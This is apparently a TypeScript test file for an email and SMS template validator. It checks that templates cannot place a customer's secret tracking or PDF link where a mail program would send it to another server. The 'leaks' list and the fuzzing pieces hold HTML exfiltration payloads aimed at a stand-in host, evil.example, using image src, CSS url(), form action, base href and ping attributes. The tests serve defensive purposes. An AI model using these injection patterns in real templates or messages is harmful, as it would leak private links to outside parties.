import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { locales } from '../i18n/locale.js';
import { translate } from '../i18n/message.js';
import { customMessageSchema } from '../messages/message-schemas.js';
import { defaultEmailTemplates, defaultSmsTemplates } from './default-templates.js';
import { renderEmailHtml, renderSms } from './render-template.js';
import { emailTemplateSchema, smsTemplateSchema, templateTestSchema } from './template-schemas.js';
import { emailTemplateTypes, smsTemplateTypes } from './template-types.js';
import { misplacedVariable } from './variable-places.js';

const leaks = [
  '<img src="https://evil.example/p.png?{{trackingUrl}}">',
  '<img src="{{trackingUrl}}">',
  "<img src='https://evil.example/{{ pdfUrl }}'>",
  '<img src=https://evil.example/?{{trackingUrl}}>',
  '<img srcset="https://evil.example/?{{trackingUrl}} 2x" src="https://a.example/a.png">',
  '<p style="background: url(https://evil.example/?{{trackingUrl}})">Hi</p>',
  '<table background="https://evil.example/?{{trackingUrl}}"><tr><td>Hi</td></tr></table>',
  '<form action="{{trackingUrl}}"></form>',
  '<form action="https://evil.example/?{{trackingUrl}}"></form>',
  '<base href="{{trackingUrl}}">',
  '<base href="https://evil.example/?{{trackingUrl}}">',
  '<a href="https://evil.example/?x={{trackingUrl}}">Open</a>',
  '<a href="{{trackingUrl}}.evil.example">Open</a>',
  '<a href="{{trackingUrl}}{{pdfUrl}}">Open</a>',
  '<a ping="{{trackingUrl}}" href="https://a.example">Open</a>',
  '<a href="https://a.example" title="{{trackingUrl}}">Open</a>',
  '<link href="{{trackingUrl}}">',
  '<img {{trackingUrl}}>',
  '<img <img {{trackingUrl}}>{{ pdfUrl }}>',
  '<img alt={{ pdfUrl }}>',
  '<p>https://evil.example/?x={{trackingUrl}}</p>',
  '<p>https://evil.example/?x=<b>{{trackingUrl}}</b></p>',
  '<p>www.evil.example{{trackingUrl}}</p>',
  '<img src="https://evil.example/?{{trackingUrl}}',
];

const saidIssues = (result: { error?: { issues: { path: PropertyKey[]; message: string }[] } }) =>
  result.error?.issues.map(({ path, message }) => ({ path, message: translate(message) }));

describe('a secret link in a template', () => {
  const saved = (content: string) =>
    emailTemplateSchema.safeParse({
      name: 'Mine',
      type: 'quote_ready_notification',
      subject: 'S',
      content,
    });

  it.each(leaks)('is refused in %s', (content) => {
    const message = expect.stringContaining(
      'is the customer\'s secret link. It may appear in the text, or be the whole address of a link: href="{{',
    ) as string;
    expect(saidIssues(saved(content))).toEqual([{ path: ['content'], message }]);
  });

  it.each(leaks)('leaks to nobody from a template saved earlier: %s', (content) => {
    const { html } = renderEmailHtml('S', content, {
      trackingUrl: 'https://ours.example/track?key=SECRET',
      pdfUrl: 'https://ours.example/pdf?key=SECRET',
    });
    for (const [tag] of html.matchAll(/<[a-z][^>]*>/gi))
      expect(tag.replace(/<a href="https:\/\/ours\.example\/[^"]*">/, '')).not.toContain('SECRET');
    expect(html).not.toMatch(/evil\.example\S*SECRET/);
  });

  it.each([
    '<p>{{trackingUrl}}</p>',
    '<a href="{{trackingUrl}}">Open</a>',
    '<A class="b" HREF=\'{{ pdfUrl }}\'>PDF</A>',
    '<p>Your link: {{trackingUrl}}</p>',
    '<p>Link:&nbsp;{{trackingUrl}}</p>',
    '<p>({{trackingUrl}})</p>',
    '<p>and/or</p><p>{{trackingUrl}}</p>',
    '<a href="tel:{{businessPhone}}">{{businessPhone}}</a>',
    '<img src="https://a.example/logo.png" alt="{{businessName}}">',
    '<a href="https://a.example/?x=1">Shop</a> {{trackingUrl}}',
    '<p>5 < 6 {{trackingUrl}}</p>',
  ])('is allowed in %s', (content) => {
    expect(saved(content).error?.issues).toBeUndefined();
    const values = { trackingUrl: 'T', pdfUrl: 'P', businessPhone: 'B', businessName: 'N' };
    expect(renderEmailHtml('S', content, values).html).toBe(
      content.replace(
        /\{\{\s*(\w+)\s*\}\}/g,
        (_all, name: string) => values[name as keyof typeof values],
      ),
    );
  });

  it('is refused as part of another URL in a text message and in an office message', () => {
    const content = 'Hi https://evil.example/?x={{trackingUrl}}';
    const message = expect.stringContaining('secret link') as string;
    const template = { name: 'Mine', type: 'quote_ready_notification', content };
    expect(saidIssues(smsTemplateSchema.safeParse(template))).toEqual([
      { path: ['content'], message },
    ]);
    const text = { requestId: 1, channel: 'sms', text: content };
    expect(saidIssues(customMessageSchema.safeParse(text))).toEqual([{ path: ['text'], message }]);
    expect(
      templateTestSchema.safeParse({ channel: 'sms', type: 'quote_ready_notification', content })
        .success,
    ).toBe(false);
    expect(renderSms(content, { trackingUrl: 'https://ours.example/?key=SECRET' })).toBe(
      'Hi https://evil.example/?x= https://ours.example/?key=SECRET',
    );
  });

  it('is in the right place in every built-in template', () => {
    for (const language of locales) {
      for (const type of emailTemplateTypes)
        expect(misplacedVariable(defaultEmailTemplates[language][type].content)).toBeNull();
      for (const type of smsTemplateTypes)
        expect(misplacedVariable(defaultSmsTemplates[language][type].content)).toBeNull();
    }
  });
});

it('refuses any variable in content that a mail program loads', () => {
  expect(
    translate(
      emailTemplateSchema.safeParse({
        name: 'M',
        type: 'custom_notification',
        subject: 'S',
        content: '<img src="https://evil.example/?{{customMessage}}">',
      }).error?.issues[0]?.message ?? '',
    ),
  ).toBe('{{customMessage}} may appear only in the text, not inside a tag.');
});

const piece = fc.constantFrom(
  '<img ',
  '<a ',
  '<p>',
  '</p>',
  '>',
  '"',
  "'",
  '=',
  'src',
  'href',
  'https://evil.example/?',
  '{{trackingUrl}}',
  '{{ pdfUrl }}',
  ' ',
  '<',
  '/',
  'alt',
  'style',
  'url(',
  ')',
);

it('never gives the link to another server, however a template is put together', () => {
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 14 }).map((pieces) => pieces.join('')),
      (content) => {
        const { html } = renderEmailHtml('S', content, {
          trackingUrl: 'https://ours.example/?key=SECRET',
          pdfUrl: 'https://ours.example/?key=SECRET',
        });
        expect(html).not.toMatch(/evil\.example[^\s<>]*SECRET/);
        expect(html).not.toMatch(
          /<img(?:[^<>"']|"[^"]*"|'[^']*')*SECRET(?:[^<>"']|"[^"]*"|'[^']*')*>/,
        );
      },
    ),
    { numRuns: 2000 },
  );
});
